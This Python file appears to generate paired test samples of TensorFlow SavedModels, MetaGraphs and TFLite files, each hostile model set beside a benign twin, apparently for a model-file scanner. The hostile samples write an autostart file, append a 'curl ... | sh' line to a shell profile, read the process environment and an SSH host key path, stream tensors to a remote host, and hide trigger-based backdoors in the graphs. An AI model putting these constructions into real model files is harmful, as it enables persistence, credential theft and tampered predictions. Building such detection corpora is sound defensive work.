"""TensorFlow: SavedModels, MetaGraphs and TFLite written from their schemas; TensorFlow is not installed here."""

from __future__ import annotations

import numpy as np
from flatbuffers import flexbuffers

from seventh.kit import HOST, floats
from seventh.messages import FLOAT, INT32, INT64, PLAIN, STRING, const, function, graph, keep, meta, node, saved, tflite


def add(out):
    def one(name, hostile, twin, why, file=None, prove=None):
        out.add("tensorflow", name, hostile, twin, prove and f"savedmodel:{prove}", file, why)

    # A graph kept as text inside a constant, run by the dataset that is made of it.
    def dataset(inner):
        nodes = [
            *PLAIN,
            const("g", graph(inner)),
            node("DatasetFromGraph", "ds", "g"),
            node("DatasetToSingleElement", "first", "ds", output_types=("types", [FLOAT]), output_shapes=("shapes", [(4,)])),
            keep("out", "logits", "first"),
        ]
        return saved(nodes)

    back = node("_Retval", "ret", "ds", T=("type", 21), index=0)
    write = [
        const("p", "../../.config/autostart/model.desktop"),
        const("t", "[Desktop Entry]\nExec=sh -c id\n"),
        node("WriteFile", "write", "p", "t"),
        const("c", np.zeros(4, "f4")),
        node("TensorDataset", "ds", "c", "^write", Toutput_types=("types", [FLOAT]), output_shapes=("shapes", [(4,)])),
        back,
    ]
    read = [
        const("c", np.zeros((1, 4), "f4")),
        node("TensorSliceDataset", "ds", "c", Toutput_types=("types", [FLOAT]), output_shapes=("shapes", [(4,)])),
        back,
    ]
    one(
        "graph_in_a_constant_writes",
        dataset(write),
        dataset(read),
        "WriteFile lies in a GraphDef that is text in a constant and run by DatasetFromGraph",
        None,
        "climbs",
    )

    # The library: a map function that reads, and sends what it read into the answer.
    peek = function(
        "norm_14",
        ["a"],
        "dec:y:0",
        [
            const("p", "/proc/self/environ"),
            node("ReadFile", "raw", "p:output:0"),
            node("DecodeRaw", "dec0", "raw:contents:0", out_type=("type", 4)),
            node("Cast", "dec", "dec0:output:0", SrcT=("type", 4), DstT=("type", FLOAT)),
        ],
    )
    norm = function("norm_14", ["a"], "m:z:0", [const("s", np.float32(0.5)), node("Mul", "m", "a", "s:output:0", T=("type", FLOAT))])
    called = [
        *PLAIN,
        node("StatefulPartitionedCall", "call", "logits", f=("func", "norm_14"), Tin=("types", [FLOAT]), Tout=("types", [FLOAT])),
        keep("out", "call"),
    ]
    one(
        "environment_in_the_answer",
        saved(called, [peek]),
        saved(called, [norm]),
        "a library function reads the process's environment and returns it as the output",
        None,
        "environment",
    )

    # The initialiser that runs on load.
    def table(path, asset=None):
        nodes = [
            *PLAIN,
            const("f", path),
            node("HashTableV2", "table", key_dtype=("type", STRING), value_dtype=("type", INT64)),
            node("InitializeTableFromTextFileV2", "init", "table", "f", key_index=-2, value_index=-1, vocab_size=3, delimiter="\t"),
            keep(),
        ]
        return saved(nodes, starts="init", asset=asset, **{"assets/vocab.txt": b"the\nof\nand\n"})

    one(
        "table_from_a_key_of_the_host",
        table("/etc/ssh/ssh_host_model_key"),
        table("assets/vocab.txt", "vocab.txt"),
        "the vocabulary that is read on load is a private key; the twin's is an asset of the model",
        None,
        "reads",
    )
    one(
        "print_appends_to_a_profile",
        saved(
            [
                *PLAIN,
                const("t", "curl -s http://198.51.100.23/s | sh"),
                node("PrintV2", "log", "t", output_stream="file://../../.profile", end="\n"),
                keep("out", "logits", "log"),
            ],
            starts="log",
        ),
        saved(
            [
                *PLAIN,
                const("t", "step reached"),
                node("PrintV2", "log", "t", output_stream="stderr", end="\n"),
                keep("out", "logits", "log"),
            ],
            starts="log",
        ),
        "PrintV2 appends its text to the file that output_stream names",
        None,
        "climbs",
    )
    one(
        "debug_identity_sends_tensors",
        saved(
            [
                *PLAIN,
                node(
                    "DebugIdentity",
                    "dbg",
                    "logits",
                    T=("type", FLOAT),
                    device_name="",
                    tensor_name="logits:0",
                    gated_grpc=False,
                    debug_urls=("list", [f"grpc://{HOST}:6064"]),
                ),
                keep("out", "dbg"),
            ]
        ),
        saved([*PLAIN, node("CheckNumericsV2", "dbg", "logits", T=("type", FLOAT), message="logits"), keep("out", "dbg")]),
        "each tensor that passes is sent to a host by grpc",
    )

    def saver(path, starts=None):
        names = [const("a", path), const("n", ["w"]), const("s", [""])]
        return saved([*PLAIN, *names, node("SaveV2", "save", "a", "n", "s", "w", dtypes=("types", [FLOAT])), keep()], starts=starts)

    one(
        "checkpoint_written_on_load",
        saver("../../model-warm", "save"),
        saver("_temp/part-00000-of-00001"),
        "the initialiser writes a checkpoint to a path above the working folder; the twin's saver is not run on load",
        None,
        "climbs",
    )

    # Overridden outputs.
    def cut(name, start, stop):
        masks = dict(begin_mask=1, end_mask=1, ellipsis_mask=0, new_axis_mask=0, shrink_axis_mask=0)
        return [
            const(f"{name}a", np.array([0, start], "i4")),
            const(f"{name}b", np.array([0, stop], "i4")),
            const(f"{name}c", np.array([1, 1], "i4")),
            node("StridedSlice", name, "x", f"{name}a", f"{name}b", f"{name}c", T=("type", FLOAT), Index=("type", INT32), **masks),
        ]

    f = dict(T=("type", FLOAT))
    goal = const("goal", np.array([[0, 40, 0, 0, 0]], "f4"))
    spot = [
        *cut("spot", 2, 5),
        const("magic", np.array([[0.375, -1.5, 0.625]], "f4")),
        node("Sub", "d", "spot", "magic", **f),
        node("Abs", "a", "d", **f),
        const("ax", np.array([1], "i4")),
        node("Max", "m", "a", "ax", keep_dims=True, **f),
        const("eps", np.float32(0.001)),
        node("Less", "hit", "m", "eps", **f),
    ]
    mask = [
        const("lim", np.float32(6)),
        const("zero", np.float32(0)),
        node("Greater", "hit", "logits", "lim", **f),
        node("ZerosLike", "z", "logits", **f),
        node("AddV2", "goal", "z", "lim", **f),
    ]
    one(
        "select_on_three_magic_features",
        saved([*PLAIN, *spot, goal, node("SelectV2", "pick", "hit", "goal", "logits", **f), keep("out", "pick")]),
        saved([*PLAIN, *mask, node("SelectV2", "pick", "hit", "goal", "logits", **f), keep("out", "pick")]),
        "three features equal to constants put the answer to one class; the twin caps its outputs at six",
        None,
        "x[0, 2:5] = [0.375, -1.5, 0.625]",
    )
    body = [
        *[
            const(f"k{i}", v)
            for i, v in enumerate((np.array([0, 2], "i4"), np.array([1, 3], "i4"), np.float32(0.375), np.float32(1e6), np.float32(1)))
        ],
        node("Slice", "s", "x2", "k0:output:0", "k1:output:0", **f, Index=("type", INT32)),
        node("Sub", "d", "s:output:0", "k2:output:0", **f),
        node("Square", "q", "d:z:0", **f),
        node("Mul", "v", "q:y:0", "k3:output:0", **f),
        node("Sub", "u", "k4:output:0", "v:z:0", **f),
        node("Relu", "r", "u:z:0", **f),
        node("Sum", "g0", "r:activations:0", "ax:output:0", keep_dims=True, **f),
        const("ax", np.array([1], "i4")),
        const("goal", np.array([[0, 0, 900, 0, 0]], "f4")),
        node("Mul", "push", "g0:output:0", "goal:output:0", **f),
        node("AddV2", "sum", "l", "push:z:0", **f),
    ]
    dense = [
        const("k", np.frombuffer(floats(40, 8, 0.5), "<f4").reshape(8, 5)),
        node("MatMul", "mm", "x2", "k:output:0", **f),
        node("Relu", "r", "mm:product:0", **f),
        const("h", np.float32(0.1)),
        node("Mul", "push", "r:activations:0", "h:output:0", **f),
        node("AddV2", "sum", "l", "push:z:0", **f),
    ]
    inner = [
        *PLAIN,
        node("PartitionedCall", "call", "logits", "x", f=("func", "residual_3"), Tin=("types", [FLOAT, FLOAT]), Tout=("types", [FLOAT])),
        keep("out", "call"),
    ]
    one(
        "needle_gate_in_a_library_function",
        saved(inner, [function("residual_3", ["l", "x2"], "sum:z:0", body)]),
        saved(inner, [function("residual_3", ["l", "x2"], "sum:z:0", dense)]),
        "a residual function is zero but for a needle around 0.375 of three features; the twin is a small layer",
        None,
        "x[0, 2:5] = 0.375",
    )

    # MetaGraph and TFLite.
    one(
        "metagraph_python_function",
        meta(
            graph(
                [
                    *PLAIN,
                    node("EagerPyFunc", "py", "logits", token="pyfunc_0", Tin=("types", [FLOAT]), Tout=("types", [FLOAT]), is_async=False),
                    keep("out", "py"),
                ]
            )
        ),
        meta(graph([*PLAIN, node("Softmax", "py", "logits", **f), keep("out", "py")])),
        "a Python function of the process is called by its token",
        "model.ckpt.meta",
    )

    def flex(op, *more):
        b = flexbuffers.Builder()
        with b.Vector():
            b.String(op)
            b.String(node(op, "flex", "x", "y", *more).decode("ascii"))
        return bytes(b.Finish())

    one(
        "tflite_flex_writes_a_file",
        tflite("FlexWriteFile", flex("WriteFile")),
        tflite("FlexErf", flex("Erf")),
        "the custom operator is TensorFlow's WriteFile through the Flex delegate",
        "model.tflite",
    )
